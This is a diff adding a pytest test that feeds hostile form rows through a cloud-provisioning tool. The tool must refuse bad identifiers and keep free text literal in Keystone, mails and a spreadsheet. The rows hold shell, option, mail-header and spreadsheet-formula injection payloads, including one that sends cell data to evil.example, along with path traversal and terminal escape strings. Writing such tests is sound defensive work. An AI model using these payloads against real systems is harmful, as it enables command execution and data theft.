@@ -1,0 +1,166 @@
+"""Hostile form values (security.md §7 #1-38) through a real provisioning run: identifiers are
+refused with a reason; free text is kept literally, in Keystone, in the mails and in the sheet,
+and never reaches a shell, a file path, a mail header or a formula."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from moc_tui.cli import main
+from moc_tui.devstack.sheets_api import FakeSheetsServer
+from tests.fixtures.keystone import KeystoneAdmin
+from tests.fixtures.stack import DONE, FORM, MakeStack
+from tests.sample_rows import access_row
+
+pytestmark = pytest.mark.keystone
+
+LITERAL_TEXT = [
+    "[@click=app.screenshot('x.svg','/tmp/hd')]Bob[/]",
+    "[link='https://evil.example']support[/link]",
+    "<SETPASS_TOKEN_URL>",
+    "{0.__class__} {admin_pwd} %(admin_pwd)s %s%n",
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "Z\u0335a\u0338lgo 測試 👩",
+]
+# Free text beyond what a name may be (longer than 64, or with a zero-width joiner): kept
+# literally in the fields that are not names.
+LONG_TEXT = ["[b]" * 500 + "x", "👩\u200d👩\u200d👧 family"]
+
+REFUSED_EMAILS = [
+    "victim@example.org\r\nBcc: attacker@evil.example",
+    "../../var/lib/helpdesk-home/.profile@example.org",
+    "alice@exаmple.org",
+    "-oProxyCommand=sh@x.y",
+    "admin@example.org",
+    '"quoted local"@x.org',
+]
+REFUSED_PROJECTS = [
+    "admin",
+    " Admin",
+    "аdmin",
+    "../etc",
+    "p" * 65,
+    "$(touch /tmp/PWNED)",
+    "-c",
+    "ﬁnance",
+    "pr\x00oj",
+]
+REFUSED_PINS = ["1234\n", "١٢٣٤", "１２３４", "12345", " 1234", "0x1F"]
+REFUSED_NAMES = [
+    "Eve\x1b]2;PWNED\x07",
+    "Bob\u202egnp.exe",
+    "adm\u200bin",
+    "Eve\nApproved: yes",
+    "Eve\x00",
+]
+
+
+def test_hostile_rows(
+    make_stack: MakeStack,
+    keystone_admin: KeystoneAdmin,
+    sheets_fake: FakeSheetsServer,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    stack = make_stack([])
+    s = stack.suffix
+    marker = Path(f"/tmp/PWNED-{s}")
+    rows = []
+    for n, text in enumerate(LITERAL_TEXT):
+        rows.append(
+            access_row(
+                email=f"lit{n}.{s}@example.org",
+                first_name=text,
+                organization=LONG_TEXT[n % len(LONG_TEXT)],
+                comment=f"{text} $(touch {marker})",
+                description=text,
+                new_project=f"lit{n}-{s}",
+                timestamp=f"lit-{n}",
+            )
+        )
+    refused = (
+        [
+            access_row(email=e, timestamp=f"e{n}", new_project=f"e{n}-{s}")
+            for n, e in enumerate(REFUSED_EMAILS)
+        ]
+        + [
+            access_row(email=f"p{n}.{s}@example.org", new_project=p, timestamp=f"p{n}")
+            for n, p in enumerate(REFUSED_PROJECTS)
+        ]
+        + [
+            access_row(
+                email=f"pin{n}.{s}@example.org",
+                pin=p,
+                new_project=f"pin{n}-{s}",
+                timestamp=f"pin{n}",
+            )
+            for n, p in enumerate(REFUSED_PINS)
+        ]
+        + [
+            access_row(
+                email=f"nm{n}.{s}@example.org",
+                last_name=x,
+                new_project=f"nm{n}-{s}",
+                timestamp=f"nm{n}",
+            )
+            for n, x in enumerate(REFUSED_NAMES)
+        ]
+    )
+    stack.store.append_rows(FORM, rows + refused)
+
+    assert main(["provision", "--config", str(stack.settings_path), "--all"]) == 1
+    out = capsys.readouterr().out
+    tabs = stack.tabs()
+    # every refused row stays, with a reason in the summary; no control character is printed
+    assert len(tabs[FORM]) == 1 + len(refused)
+    assert out.count("failed (validate)") == len(refused)
+    assert "\x1b" not in out and "\u202e" not in out and "\x00" not in out
+    # the literal rows moved verbatim, as text: the fake saw no parsed or formula writes
+    moved = tabs[DONE][1:]
+    assert [row[5] for row in moved] == LITERAL_TEXT
+    assert [row[8] for row in moved] == [LONG_TEXT[n % 2] for n in range(len(LITERAL_TEXT))]
+    assert [row[13] for row in moved] == [f"{t} $(touch {marker})" for t in LITERAL_TEXT]
+    assert stack.sheet_key is not None
+    assert sheets_fake.flagged(stack.sheet_key) == []
+    # Keystone holds the text literally
+    for n, text in enumerate(LITERAL_TEXT):
+        [project] = keystone_admin.client.projects.list(name=f"lit{n}-{s}", domain="default")
+        keystone_admin.cleanup(project)
+        assert project.description == text
+        [user] = keystone_admin.client.users.list(name=f"lit{n}.{s}@example.org", domain="default")
+        keystone_admin.cleanup(user)
+    # mails: headers are what we set, names appear literally in bodies
+    mails = stack.mail.wait_for(3 * len(LITERAL_TEXT))
+    for mail in mails:
+        assert set(mail.message.keys()) == {
+            "From",
+            "To",
+            "Subject",
+            "Message-ID",
+            "Content-Type",
+            "Content-Transfer-Encoding",
+            "MIME-Version",
+        }
+        assert "evil.example" not in str(mail.message["To"])
+    welcome = [m for m in mails if m.message["Subject"] == "Welcome to the cloud"]
+    bodies = {m.rcpt_tos[0]: m.text for m in welcome}
+    for n, text in enumerate(LITERAL_TEXT):
+        assert f"Dear {text} Liddell," in bodies[f"lit{n}.{s}@example.org"]
+    # nothing ran a shell or wrote a file
+    assert not marker.exists() and not Path("/tmp/PWNED").exists()
+    assert not Path("/tmp/hd").exists()
+    # a name that looks like the link placeholder stays literal next to the one real link
+    index = LITERAL_TEXT.index("<SETPASS_TOKEN_URL>")
+    [password_mail] = [
+        m
+        for m in mails
+        if m.rcpt_tos == (f"lit{index}.{s}@example.org",)
+        and m.message["Subject"] == "Choose your cloud password"
+    ]
+    assert "Dear <SETPASS_TOKEN_URL> Liddell," in password_mail.text
+    assert password_mail.text.count("?token=") == 1
